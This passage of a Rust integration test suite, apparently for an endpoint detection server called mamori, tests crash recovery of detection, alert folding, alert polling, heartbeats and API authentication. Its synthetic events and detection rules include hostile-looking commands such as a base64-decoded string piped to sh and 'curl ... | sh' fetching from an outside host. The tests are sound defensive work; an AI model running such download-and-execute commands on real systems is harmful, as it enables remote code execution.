/// every Linux event, forks and exits included.
const KEYWORD_RULE: &str = "title: Test Keywords
id: 5b7f6a4e-0000-4000-8000-00000000c0df
status: test
level: medium
logsource:
  product: linux
detection:
  keywords:
    - 'mamori-keyword'
  condition: keywords
";

/// A server whose rules directory holds [`ENCODED_SHELL_RULE`], and an agent enrolled with
/// it: (server data, rules directory, port, server, agent data).
fn encoded_shell_server(tag: &str) -> (PathBuf, PathBuf, u16, ServerProc, PathBuf) {
    let srv = tempdir("server", &format!("{tag}-srv"));
    let rules = srv.join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(rules.join("test.yml"), ENCODED_SHELL_RULE).unwrap();
    let port = free_port();
    let (server, fp) = start_server_with(&srv, port, &["--rules", rules.to_str().unwrap()]);
    let a = tempdir("server", &format!("{tag}-agent"));
    enroll(&a, port, &token(&srv, &[]), &fp).unwrap();
    (srv, rules, port, server, a)
}

/// Events the log made durable and acknowledged, but which detection had not finished when
/// the server died, are detected on the next start, and only once: how far detection got is
/// committed with the alerts it raised.
#[test]
fn detection_resumes_after_a_crash_and_alerts_exactly_once() {
    let (srv, rules, port, mut server, a) = encoded_shell_server("resume");
    let rules = ["--rules", rules.to_str().unwrap()];
    let id = agent_id(&a);
    send(&a, &[exec_event(100, "id")]);
    // Idle for a moment: detection records how far it got, so a restart reads nothing again.
    std::thread::sleep(Duration::from_secs(3));
    stop_server(&mut server);
    drop(server);
    // What a crash between the acknowledgement and detection leaves on disk: events in the
    // log (the real log, written as the server writes it) past the recorded detection point.
    let cmd = "echo aWQK | base64 -d | sh";
    {
        let mut log =
            mamori_server::store::EventLog::open(&srv.join("server/events"), 1 << 30).unwrap();
        let events = [exec_event(200, "uname -a"), exec_event(201, cmd)];
        let appended = log.append("default", &id, 2, &events).unwrap();
        assert_eq!(appended.stored, 2);
        log.close().unwrap();
    }
    let encoded = |alerts: &[serde_json::Value]| -> Vec<serde_json::Value> {
        alerts
            .iter()
            .filter(|a| a["command_line"] == cmd)
            .cloned()
            .collect()
    };
    assert!(encoded(&alerts(&srv)).is_empty(), "not detected yet");
    let (mut server, _) = start_server_with(&srv, port, &rules);
    // Logged before the server listens, so read from its log file.
    let log = std::fs::read_to_string(srv.join("server.log")).unwrap();
    let said = log.lines().find(|l| l.contains("detected again"));
    assert!(said.is_some_and(|l| l.contains("events=2")), "{log}");
    assert!(log.contains("before listening"), "{log}");
    let found = encoded(&wait_alerts(&srv, |a| !encoded(a).is_empty()));
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0]["count"], 1);
    assert_eq!(found[0]["evidence"][0]["process"]["pid"], 201);
    // Killed again once the alert is recorded: nothing is detected a second time (a second
    // detection would fold into the alert and count 2).
    server.child.kill().unwrap(); // SIGKILL
    server.child.wait().unwrap();
    let (mut server, _) = start_server_with(&srv, port, &rules);
    send(&a, &[exec_event(300, "true")]);
    std::thread::sleep(Duration::from_secs(2));
    let found = encoded(&alerts(&srv));
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0]["count"], 1, "detected once: {found:?}");
    stop_server(&mut server);
    let log = std::fs::read_to_string(srv.join("server.log")).unwrap();
    assert_eq!(
        log.matches("before listening").count() + log.matches("detected again").count(),
        0,
        "the last start found nothing to detect again:\n{log}"
    );
}

#[test]
fn a_round_the_state_database_refuses_is_detected_again_once_it_takes_writes() {
    let (srv, rules, port, mut server, a) = encoded_shell_server("refused");
    let rules = ["--rules", rules.to_str().unwrap()];
    // Another writer (a backup, an administrator's sqlite3) holds the state database's write
    // lock past detection's busy timeout (5 s).
    let other = mamori_server::state::State::open(&srv.join("server/state.db")).unwrap();
    other.begin_batch().unwrap();
    let cmd = "echo aWQK | base64 -d | sh";
    send(&a, &[exec_event(400, cmd)]);
    // A second round, durable now, waits behind the refused one.
    send(&a, &[exec_event(401, "true")]);
    // An API write waits as long, then is told to try again (not "internal error").
    let (status, body) = api(
        &srv,
        port,
        server.admin.as_deref(),
        "POST",
        "/api/v1/enrollment-tokens",
        Some("{}"),
    );
    assert_eq!(status, 503, "{body}");
    assert!(body.contains("try again"), "{body}");
    let deadline = Instant::now() + Duration::from_secs(15);
    let log = loop {
        let log = std::fs::read_to_string(srv.join("server.log")).unwrap_or_default();
        if log.contains("the round will be retried") || Instant::now() > deadline {
            break log;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    assert!(log.contains("the round will be retried"), "{log}");
    assert!(
        alerts(&srv).is_empty(),
        "nothing recorded while the lock is held"
    );
    // The server's status says so, for its operators.
    let server_status = |token: Option<&str>| {
        let (code, body) = api(&srv, port, token, "GET", "/api/v1/status", None);
        (
            code,
            serde_json::from_str::<serde_json::Value>(&body).unwrap_or_default(),
        )
    };
    let (code, st) = server_status(server.admin.as_deref());
    assert_eq!(code, 200, "{st}");
    let det = &st["detection"];
    assert!(det["failing_since"].as_i64().is_some(), "{st}");
    assert!(
        det["last_error"].as_str().unwrap().contains("unavailable"),
        "{st}"
    );
    assert!(det["behind"].as_u64().unwrap() >= 1, "{st}");
    // The round has waited at least the busy timeout (5 s) since it was durable: its
    // alert is that late, and the status says so.
    let delay = det["delay_ms"].as_u64().unwrap();
    assert!((5_000..120_000).contains(&delay), "{st}");
    assert_eq!(server_status(None).0, 401);
    // `mamori server status` says it in words, and exits 1.
    let admin = server.admin.clone().unwrap();
    let status_cli = || {
        let url = format!("https://127.0.0.1:{port}");
        let out = mamori(&srv)
            .args(["server", "status", "--server", &url, "--token", &admin])
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        (
            out.status.code(),
            text + &String::from_utf8_lossy(&out.stderr),
        )
    };
    let (code, text) = status_cli();
    assert_eq!(code, Some(1), "{text}");
    assert!(text.contains("REFUSED"), "{text}");
    assert!(text.contains("alerts are that LATE"), "{text}");
    // Long enough that the second round starts more than 5 s after it was durable.
    std::thread::sleep(Duration::from_millis(1500));
    other.rollback_batch().unwrap();
    let found = wait_alerts(&srv, |a| !a.is_empty());
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0]["command_line"], cmd);
    assert_eq!(found[0]["count"], 1, "recorded once: {found:?}");
    // The server warned that detection ran behind, and says when it has caught up (a round
    // that starts at once).
    let logged = |what: &str| {
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            let log = std::fs::read_to_string(srv.join("server.log")).unwrap_or_default();
            if log.contains(what) || Instant::now() > deadline {
                return log;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
    };
    let log = logged("behind the events the server has stored");
    assert!(
        log.contains("behind the events the server has stored"),
        "{log}"
    );
    send(&a, &[exec_event(402, "true")]);
    let log = logged("detection has caught up");
    assert!(log.contains("detection has caught up"), "{log}");
    // Rounds without alerts are recorded within a second (PROGRESS_EVERY).
    let deadline = Instant::now() + Duration::from_secs(5);
    let st = loop {
        let st = server_status(server.admin.as_deref()).1;
        if st["detection"]["behind"] == 0 || Instant::now() > deadline {
            break st;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    assert!(st["detection"]["failing_since"].is_null(), "{st}");
    assert_eq!(st["detection"]["behind"], 0, "{st}");
    assert_eq!(st["detection"]["delay_ms"], 0, "caught up: {st}");
    // The writer's latest round: a batch just sent, so young and quickly durable.
    assert!(st["ingest"]["wait_ms"].as_u64().unwrap() < 10_000, "{st}");
    assert!(st["ingest"]["event_age_ms"].as_u64().is_some(), "{st}");
    let (code, text) = status_cli();
    assert_eq!(code, Some(0), "{text}");
    assert!(text.contains("detection: keeping up"), "{text}");
    assert_eq!(st["log"]["synced"], st["detection"]["through"], "{st}");
    // The round's position was recorded with it: a restart detects nothing again.
    stop_server(&mut server);
    let (mut server, _) = start_server_with(&srv, port, &rules);
    std::thread::sleep(Duration::from_secs(1));
    assert_eq!(alerts(&srv)[0]["count"], 1);
    stop_server(&mut server);
    let log = std::fs::read_to_string(srv.join("server.log")).unwrap();
    assert!(!log.contains("before listening"), "{log}");
}

/// A console's poll: one connection kept open for every request, and each new alert once
/// (`after` the last id it has), oldest first; a GET after the server restarted finds a new
/// connection by itself.
#[test]
fn a_poller_gets_each_new_alert_once_over_one_connection() {
    let (srv, rules, port, mut server, a) = encoded_shell_server("poller");
    let admin = server
        .admin
        .clone()
        .expect("first start prints the admin token");
    let ca = std::fs::read_to_string(srv.join("server/pki/ca.pem")).unwrap();
    let api =
        mamori_link::api::Api::new(&format!("https://127.0.0.1:{port}"), &ca, &admin).unwrap();
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let mut session = api.session();
    let mut last = 0i64;
    let poll = |session: &mut mamori_link::api::Session,
                last: &mut i64,
                wanted: usize|
     -> Vec<serde_json::Value> {
        let deadline = Instant::now() + Duration::from_secs(15);
        let mut got = Vec::new();
        loop {
            let path = format!("/api/v1/alerts?after={}&limit=1", *last);
            let reply = rt.block_on(session.request("GET", &path, None)).unwrap();
            assert_eq!(reply.status, 200, "{}", reply.body);
            let page: Vec<serde_json::Value> = serde_json::from_str(&reply.body).unwrap();
            if let Some(al) = page.first() {
                *last = al["id"].as_i64().unwrap();
                got.push(al.clone());
            }
            if got.len() >= wanted || Instant::now() > deadline {
                // Nothing after the last one.
                let path = format!("/api/v1/alerts?after={}", *last);
                let reply = rt.block_on(session.request("GET", &path, None)).unwrap();
                assert_eq!(reply.body.trim(), "[]");
                return got;
            }
            if page.is_empty() {
                std::thread::sleep(Duration::from_millis(100));
            }
        }
    };
    assert!(poll(&mut session, &mut last, 0).is_empty(), "no alert yet");
    let cmd = |n: u32| format!("echo aWQK | base64 -d | sh # {n}");
    send(&a, &[exec_event(500, &cmd(1)), exec_event(501, &cmd(2))]);
    let first = poll(&mut session, &mut last, 2);
    assert_eq!(first.len(), 2, "{first:?}");
    assert!(
        first[0]["id"].as_i64() < first[1]["id"].as_i64(),
        "oldest first"
    );
    // A repeat on a process already alerted folds into its alert: nothing new to read.
    send(&a, &[exec_event(501, &cmd(2))]);
    send(&a, &[exec_event(502, &cmd(3))]);
    let next = poll(&mut session, &mut last, 1);
    assert_eq!(next.len(), 1);
    assert_eq!(next[0]["command_line"], cmd(3));
    assert_eq!(session.connects(), 1, "every request on one connection");
    // The server restarts: the next GET opens a new connection by itself.
    stop_server(&mut server);
    let rules = ["--rules", rules.to_str().unwrap()];
    let (mut server, _) = start_server_with(&srv, port, &rules);
    assert!(poll(&mut session, &mut last, 0).is_empty());
    assert_eq!(session.connects(), 2);
    stop_server(&mut server);
}

/// `mamori server alerts --follow`, from the local state database and through the API:
/// the alerts already raised first, then each new one once, as it comes, oldest first.
#[test]
fn alerts_follow_prints_each_new_alert_as_it_is_raised() {
    let (srv, _rules, port, server, a) = encoded_shell_server("follow");
    let admin = server
        .admin
        .clone()
        .expect("first start prints the admin token");
    let cmd = |n: u32| format!("echo aWQK | base64 -d | sh # {n}");
    send(&a, &[exec_event(600, &cmd(0))]);
    wait_alerts(&srv, |a| a.len() == 1);
    let mut local = mamori(&srv);
    local.args(["server", "alerts", "--follow", "--json"]);
    // Through the API (trusting the server's CA file in the same data directory).
    let url = format!("https://127.0.0.1:{port}");
    let mut remote = mamori(&srv);
    remote.args([
        "server", "alerts", "--json", "-f", "--server", &url, "--token", &admin,
    ]);
    let spawn = |mut c: Command| {
        let mut child = c
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let out = child.stdout.take().unwrap();
        let (tx, rx) = mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(out).lines() {
                if tx.send(line.unwrap()).is_err() {
                    break;
                }
            }
        });
        (child, rx)
    };
    let followers = [spawn(local), spawn(remote)];
    let next = |rx: &mpsc::Receiver<String>| -> serde_json::Value {
        let line = rx
            .recv_timeout(Duration::from_secs(20))
            .expect("an alert line");
        serde_json::from_str(&line).unwrap()
    };
    for (_, rx) in &followers {
        assert_eq!(next(rx)["command_line"], cmd(0), "the alert already raised");
    }
    send(&a, &[exec_event(601, &cmd(1))]);
    send(&a, &[exec_event(601, &cmd(1)), exec_event(602, &cmd(2))]);
    for (_, rx) in &followers {
        let (one, two) = (next(rx), next(rx));
        assert_eq!(one["command_line"], cmd(1));
        assert_eq!(two["command_line"], cmd(2));
        assert!(one["id"].as_i64() < two["id"].as_i64());
        // The repeat on 601 folded into its alert: nothing more.
        assert!(rx.recv_timeout(Duration::from_secs(2)).is_err());
    }
    for (mut child, _) in followers {
        assert!(child.try_wait().unwrap().is_none(), "still following");
        child.kill().unwrap();
        child.wait().unwrap();
    }
}

#[test]
fn live_detection_raises_folded_alerts_with_evidence() {
    let srv = tempdir("server", "detect-srv");
    let rules = srv.join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    // A correlation over a base rule that does not alert on its own: three curl|sh in 5 min.
    std::fs::write(
        rules.join("corr.yml"),
        r#"title: Download To Shell Base
name: dl_to_shell
id: 5b7f6a4e-0000-4000-8000-00000000c0d1
status: test
level: low
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        CommandLine|contains: 'curl -s http://10.9.9.9/x | sh'
    condition: selection
---
title: Repeated Download To Shell
id: 5b7f6a4e-0000-4000-8000-00000000c0d2
status: test
level: high
tags:
    - attack.command-and-control
correlation:
    type: event_count
    rules:
        - dl_to_shell
    group-by:
        - CommandLine
    timespan: 5m
    condition:
        gte: 3
"#,
    )
    .unwrap();
    std::fs::write(rules.join("test.yml"), ENCODED_SHELL_RULE).unwrap();
    std::fs::write(rules.join("keywords.yml"), KEYWORD_RULE).unwrap();
    let port = free_port();
    let mut child = mamori(&srv)
        .args(["server", "run", "--listen", &format!("127.0.0.1:{port}")])
        .args(["--rules", rules.to_str().unwrap()])
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let err = BufReader::new(child.stderr.take().unwrap());
    let mut fp = String::new();
    for line in err.lines().map_while(Result::ok) {
        if let Some(f) = line.strip_prefix("mamori server: CA fingerprint ") {
            fp = f.to_string();
        }
        if line.contains("listening on") {
            break;
        }
    }
    let _server = ServerProc {
        child,
        stderr: mpsc::channel().1,
        admin: None,
    };
    let a = tempdir("server", "detect-agent");
    enroll(&a, port, &token(&srv, &["--tenant", "acme"]), &fp).unwrap();
    // Two executions of the same process tree step match; one benign event does not.
    let exec = |pid: u32, cmd: &str| {
        format!(
            r#"{{"@timestamp":"2026-11-26T10:00:00Z","event":{{"kind":"event","category":["process"],"type":["start"],"action":"exec","module":"mamori","dataset":"mamori.process"}},"host":{{"name":"web1","os":{{"type":"linux"}}}},"process":{{"pid":{pid},"entity_id":"boot:{pid}:1","executable":"/bin/sh","name":"sh","command_line":"{cmd}","args":["sh","-c","{cmd}"],"parent":{{"pid":1,"executable":"/usr/sbin/cron","command_line":"cron"}}}},"user":{{"id":"0","name":"root"}}}}"#
        )
    };
    let (mut sp, _) =
        mamori_spool::Spool::open(a.join("spool"), mamori_spool::SpoolConfig::default()).unwrap();
    sp.append(exec(100, "echo aGk= | base64 -d | sh").as_bytes())
        .unwrap();
    sp.append(exec(100, "echo aGk= | base64 -d | sh").as_bytes())
        .unwrap();
    sp.append(exec(200, "ls /tmp").as_bytes()).unwrap();
    for pid in [301, 302, 303] {
        sp.append(exec(pid, "curl -s http://10.9.9.9/x | sh").as_bytes())
            .unwrap();
    }
    // A pipeline as the sensor sees it: the shell; a fork of it (its program still) that
    // executes `cat`, whose parent's command line holds the keyword; and a subshell that
    // never executes anything, forked and exiting with the shell's command line.
    let pipeline = "echo mamori-keyword | cat";
    sp.append(exec(500, pipeline).as_bytes()).unwrap();
    let child = |pid: u32, action: &str, cmd: &str| {
        exec(pid, cmd)
            .replace(r#""action":"exec""#, &format!(r#""action":"{action}""#))
            .replace(
                r#""parent":{"pid":1,"executable":"/usr/sbin/cron","command_line":"cron"}"#,
                &format!(
                    r#""parent":{{"pid":500,"entity_id":"boot:500:1","executable":"/bin/sh","command_line":"{pipeline}"}}"#
                ),
            )
    };
    sp.append(child(501, "fork", pipeline).as_bytes()).unwrap();
    sp.append(child(501, "exec", "cat").as_bytes()).unwrap();
    sp.append(child(502, "fork", pipeline).as_bytes()).unwrap();
    sp.append(child(502, "exit", pipeline).as_bytes()).unwrap();
    sp.sync().unwrap();
    drop(sp);
    let shipped = Instant::now();
    let (ok, e) = ship(&a, None);
    assert!(ok, "{e}");
    let deadline = Instant::now() + Duration::from_secs(10);
    let alerts: Vec<serde_json::Value> = loop {
        let v = alerts(&srv);
        let corr = v
            .iter()
            .any(|a| a["rule_title"] == "Repeated Download To Shell");
        let folded = v.iter().any(|a| a["count"] == 2);
        let pipeline = v.iter().any(|a| a["count"] == 4);
        if (corr && folded && pipeline) || Instant::now() > deadline {
            break v;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    eprintln!(
        "alert visible {:?} after shipping started",
        shipped.elapsed()
    );
    // The base rule of the correlation raises nothing by itself.
    assert!(
        !alerts
            .iter()
            .any(|a| a["rule_title"] == "Download To Shell Base"),
        "{alerts:?}"
    );
    let corr = alerts
        .iter()
        .find(|a| a["rule_title"] == "Repeated Download To Shell")
        .unwrap_or_else(|| panic!("no correlation alert among {alerts:?}"));
    assert_eq!(corr["level"], "high");
    assert_eq!(corr["evidence"][0]["correlation"]["count"], 3);
    assert_eq!(
        corr["evidence"][0]["events"].as_array().map(Vec::len),
        Some(3),
        "the contributing events are the evidence: {corr}"
    );
    // A keyword rule: one alert on the shell, its forks and the subshell's exit folded into
    // it; the child that executed `cat` does not match through its parent's command line.
    let keyword: Vec<&serde_json::Value> = alerts
        .iter()
        .filter(|a| a["rule_title"] == "Test Keywords")
        .collect();
    assert_eq!(keyword.len(), 1, "one alert for the pipeline: {keyword:?}");
    assert_eq!(keyword[0]["process_entity"], "boot:500:1");
    assert_eq!(
        keyword[0]["count"], 4,
        "the forks folded in: {}",
        keyword[0]
    );
    let actions: Vec<&str> = keyword[0]["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["event"]["action"].as_str().unwrap())
        .collect();
    assert_eq!(actions, ["exec", "fork", "fork", "exit"]);
    let alerts: Vec<&serde_json::Value> = alerts
        .iter()
        .filter(|a| a["rule_title"] == "Test Encoded Shell")
        .collect();
    assert_eq!(alerts.len(), 1, "one folded alert: {alerts:?}");
    let al = alerts[0];
    assert_eq!(al["count"], 2);
    assert_eq!(al["level"], "high");
    assert_eq!(al["rule_title"], "Test Encoded Shell");
    assert_eq!(al["tenant"], "acme");
    assert_eq!(al["host"], "web1");
    assert_eq!(al["user"], "root");
    assert_eq!(al["process_entity"], "boot:100:1");
    assert_eq!(al["tags"][1], "attack.t1059.004");
    assert_eq!(al["evidence"].as_array().unwrap().len(), 2);
    assert_eq!(
        al["evidence"][0]["process"]["command_line"],
        "echo aGk= | base64 -d | sh"
    );

    // A file on the tenant's allowlist is never flagged; the same rule on another file is.
    let analyst = {
        let out = mamori(&srv)
            .args(["server", "api-token", "--name", "t", "--role", "analyst"])
            .output()
            .unwrap();
        String::from_utf8(out.stdout).unwrap().trim().to_string()
    };
    let good = "a".repeat(64);
    let (code, body) = api(
        &srv,
        port,
        Some(&analyst),
        "POST",
        "/api/v1/blocklist",
        Some(&format!(
            r#"{{"sha256":"{good}","list":"allow","tenant":"acme","reason":"our backup tool"}}"#
        )),
    );
    assert_eq!(code, 201, "{body}");
    let hashed = |pid: u32, sha: &str| {
        exec(pid, "echo aGk= | base64 -d | sh").replace(
            r#""name":"sh","#,
            &format!(r#""name":"sh","hash":{{"sha256":"{sha}"}},"#),
        )
    };
    send(&a, &[hashed(400, &good), hashed(401, &"b".repeat(64))]);
    let v = wait_alerts(&srv, |v| {
        v.iter().any(|a| a["process_entity"] == "boot:401:1")
    });
    assert!(
        v.iter().any(|a| a["process_entity"] == "boot:401:1"),
        "another file still alerts"
    );
    assert!(
        !v.iter().any(|a| a["process_entity"] == "boot:400:1"),
        "the allowlisted file does not: {v:?}"
    );
}

/// The heartbeat interval the test's agents report: long enough that the inventory, read
/// after two `mamori agent ship` processes (each a process start, a TLS connection and an
/// acknowledgement), is read well before three intervals of silence on a busy machine.
const HEARTBEAT_S: u64 = 3;

fn heartbeat(action: &str, missing: &[&str]) -> String {
    serde_json::json!({
        "@timestamp": "2026-11-26T10:00:00Z",
        "event": {"kind": "metric", "category": ["host"], "type": ["info"], "action": action,
                  "module": "mamori", "dataset": "mamori.health"},
        "host": {"name": "web1", "os": {"type": "linux"}, "ip": ["10.1.2.3"]},
        "mamori": {"heartbeat_interval_s": HEARTBEAT_S,
                   "health": {"missing": missing, "dropped": {"ring_buffer_full": 0}}},
    })
    .to_string()
}

/// An HTTPS request with curl (trusting the server's CA): (status code, body). `data` is a
/// file to post (`@path`) or a literal body.
fn curl(
    srv: &Path,
    port: u16,
    token: Option<&str>,
    path: &str,
    data: Option<&str>,
) -> (u32, String) {
    let mut c = Command::new("curl");
    c.args(["-s", "-w", "\n%{http_code}", "--cacert"])
        .arg(srv.join("server/pki/ca.pem"));
    if let Some(t) = token {
        c.args(["-H", &format!("Authorization: Bearer {t}")]);
    }
    if let Some(d) = data {
        c.args([
            "-H",
            "Content-Type: application/octet-stream",
            "--data-binary",
            d,
        ]);
    }
    let out = c
        .arg(format!("https://127.0.0.1:{port}{path}"))
        .output()
        .expect("curl runs");
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let (body, code) = text.rsplit_once('\n').unwrap_or(("", "0"));
    (code.trim().parse().unwrap_or(0), body.to_string())
}

/// JSON lines printed by `mamori server <what> --json`.
fn server_json(srv: &Path, what: &str) -> Vec<serde_json::Value> {
    let out = mamori(srv)
        .args(["server", what, "--json"])
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn hosts(srv: &Path) -> Vec<serde_json::Value> {
    server_json(srv, "agents")
}

fn alerts(srv: &Path) -> Vec<serde_json::Value> {
    server_json(srv, "alerts")
}

#[test]
fn heartbeats_fill_the_inventory_and_silence_or_a_stop_raises_an_alert() {
    let srv = tempdir("server", "hb-srv");
    let port = free_port();
    let (_server, fp) = start_server(&srv, port);
    let quiet = tempdir("server", "hb-quiet");
    enroll(&quiet, port, &token(&srv, &[]), &fp).unwrap();
    let stopping = tempdir("server", "hb-stop");
    enroll(&stopping, port, &token(&srv, &[]), &fp).unwrap();
    let (q_id, s_id) = (agent_id(&quiet), agent_id(&stopping));
    for (dir, actions) in [
        (&quiet, vec!["heartbeat"]),
        (&stopping, vec!["heartbeat", "agent-stopped"]),
    ] {
        let (mut sp, _) =
            mamori_spool::Spool::open(dir.join("spool"), mamori_spool::SpoolConfig::default())
                .unwrap();
        for a in actions {
            sp.append(heartbeat(a, &["login"]).as_bytes()).unwrap();
        }
        sp.sync().unwrap();
        drop(sp);
        let (ok, err) = ship(dir, None);
        assert!(ok, "{err}");
    }
    // The inventory right after: reported, with what is missing (degraded), addresses.
    let deadline = Instant::now() + Duration::from_secs(5);
    let inv = loop {
        let h = hosts(&srv);
        let ready = h.iter().filter(|x| !x["heartbeat_at"].is_null()).count() == 2;
        if ready || Instant::now() > deadline {
            break h;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    let q = inv.iter().find(|h| h["agent"] == q_id.as_str()).unwrap();
    assert_eq!(q["status"], "degraded", "{q}");
    assert_eq!(q["addresses"][0], "10.1.2.3");
    assert_eq!(q["health"]["missing"][0], "login");
    let s = inv.iter().find(|h| h["agent"] == s_id.as_str()).unwrap();
    assert_eq!(s["status"], "stopped", "{s}");
    // A stop is an alert at once; silence after three intervals (checked every 2 s).
    let deadline = Instant::now() + Duration::from_secs(15 + 3 * HEARTBEAT_S);
    let found = loop {
        let a = alerts(&srv);
        let silent = a
            .iter()
            .any(|x| x["rule_title"] == "Host stopped reporting" && x["agent"] == q_id.as_str());
        let stopped = a
            .iter()
            .any(|x| x["rule_title"] == "Sensor stopped on host" && x["agent"] == s_id.as_str());
        if (silent && stopped) || Instant::now() > deadline {
            break a;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    let silent: Vec<_> = found
        .iter()
        .filter(|x| x["rule_title"] == "Host stopped reporting")
        .collect();
    assert_eq!(
        silent.len(),
        1,
        "one silence alert, for the silent agent only: {found:?}"
    );
    assert_eq!(silent[0]["agent"], q_id.as_str());
    assert_eq!(silent[0]["level"], "high");
    assert!(
        found
            .iter()
            .any(|x| x["rule_title"] == "Sensor stopped on host" && x["agent"] == s_id.as_str()),
        "{found:?}"
    );
    let q = hosts(&srv)
        .into_iter()
        .find(|h| h["agent"] == q_id.as_str())
        .unwrap();
    assert_eq!(q["status"], "offline");
}

#[test]
fn rest_api_needs_the_admin_token_and_serves_hosts_alerts_and_openapi() {
    let srv = tempdir("server", "api-srv");
    let port = free_port();
    let (server, fp) = start_server(&srv, port);
    let admin = server
        .admin
        .clone()
        .expect("first start prints the admin token");
    let a = tempdir("server", "api-agent");
    enroll(&a, port, &token(&srv, &["--tenant", "acme"]), &fp).unwrap();
    let get = |path: &str, token: Option<&str>| curl(&srv, port, token, path, None);
    // Refused without a token or with a wrong one.
    assert_eq!(get("/api/v1/hosts", None).0, 401);
    assert_eq!(get("/api/v1/hosts", Some("mamori_admin_wrong")).0, 401);
    let (code, body) = get("/api/v1/hosts", Some(&admin));
    assert_eq!(code, 200, "{body}");
    let hosts: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(hosts[0]["tenant"], "acme");
    assert_eq!(hosts[0]["agent"], agent_id(&a).as_str());
    let (code, body) = get("/api/v1/alerts?limit=5", Some(&admin));
    assert_eq!(code, 200, "{body}");
    assert!(
        serde_json::from_str::<serde_json::Value>(&body)
            .unwrap()
            .is_array()
    );
    let (code, body) = get("/api/v1/openapi.json", None);
    assert_eq!(code, 200);
    let doc: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(doc["openapi"], "3.1.0");
    assert!(doc["paths"]["/api/v1/alerts"].is_object());
    // HTTP/1.1 clients too (ALPN offers both), refusals before the body included.
    let out = Command::new("curl")
        .args(["-s", "--http1.1", "-w", "\n%{http_code}", "--cacert"])
        .arg(srv.join("server/pki/ca.pem"))
        .args(["--data-binary", "{\"status\":\"closed\"}"])
        .arg(format!("https://127.0.0.1:{port}/api/v1/alerts/1/status"))
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.ends_with("\n401") && text.contains("bearer token"),
        "{text}"
    );
    // gRPC still works on the same port: the agent ships.
    fill_spool(&a, 0, 2);
    let (ok, err) = ship(&a, None);
    assert!(ok, "{err}");

    // The administration commands through the API (from elsewhere: another data directory,
    // trusting the server by its fingerprint).
    let elsewhere = tempdir("server", "api-cli");
    let url = format!("https://127.0.0.1:{port}");
    let cli = |args: &[&str], token: &str| {
        mamori(&elsewhere)
            .args(["server"])
            .args(args)
            .args(["--server", &url, "--token", token, "--ca-fingerprint", &fp])
            .output()
            .unwrap()
    };
    let out = cli(&["agents", "--json"], &admin);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let first: serde_json::Value =
        serde_json::from_str(String::from_utf8_lossy(&out.stdout).lines().next().unwrap()).unwrap();
    assert_eq!(first["agent"], agent_id(&a).as_str());
    let out = cli(&["audit"], &admin);
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).contains("agent.enroll"));
    let out = cli(&["alerts"], &admin);
    assert!(out.status.success(), "no alerts: exit 0");
    // A tenant's token does not read the audit log of all tenants.
    let (_, body) = curl(
        &srv,
        port,
        Some(&admin),
        "/api/v1/tokens",
        Some(r#"{"name":"t","role":"admin","tenant":"acme"}"#),
    );
    let tenant_admin = serde_json::from_str::<serde_json::Value>(&body).unwrap()["token"]
        .as_str()
        .unwrap()
        .to_string();
    let out = cli(&["audit"], &tenant_admin);
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("403"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn windows_logs_uploaded_over_the_api_are_stored_and_detected() {
    let shared = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data");
    let rules = shared.join("sigma/rules/windows/powershell");
    let evtx = shared.join("evtx/DeepBlueCLI/Powershell-Invoke-Obfuscation-many.evtx");
    assert!(
        rules.is_dir() && evtx.is_file(),
        "shared test data missing in {}",
        shared.display()
    );
    let srv = tempdir("server", "win-srv");
    let port = free_port();
    let (server, _) = start_server_with(&srv, port, &["--rules", rules.to_str().unwrap()]);
    let admin = server.admin.clone().unwrap();
    let post = |path: &str, file: &Path| {
        curl(
            &srv,
            port,
            Some(&admin),
            path,
            Some(&format!("@{}", file.display())),
        )
    };
    let (code, body) = post("/api/v1/ingest/windows?host=ws01&tenant=acme", &evtx);
    assert_eq!(code, 200, "{body}");
    let reply: serde_json::Value = serde_json::from_str(&body).unwrap();
    let stored = reply["stored"].as_u64().unwrap();
    assert!(stored > 0, "{reply}");
    // Garbage is refused with a reason and stores nothing.
    let junk = srv.join("junk.bin");
    std::fs::write(&junk, b"\x00\x01 definitely not a log").unwrap();
    let (code, body) = post("/api/v1/ingest/windows?host=ws01&tenant=acme", &junk);
    assert_eq!(code, 400, "{body}");
    assert!(body.contains("no events"), "{body}");
    let (code, _) = post("/api/v1/ingest/windows?host=bad%20host", &evtx);
    assert_eq!(code, 400, "host names are checked");
    // A line serde_json would read as another document is not stored; the rest is.
    let lines = srv.join("reserved.jsonl");
    std::fs::write(
        &lines,
        "{\"EventID\":1,\"Channel\":\"Security\"}\n\
         {\"$serde_json::private::RawValue\":\"{\\\"EventID\\\":1}\"}\n",
    )
    .unwrap();
    let (code, body) = post("/api/v1/ingest/windows?host=ws02&tenant=acme", &lines);
    assert_eq!(code, 200, "{body}");
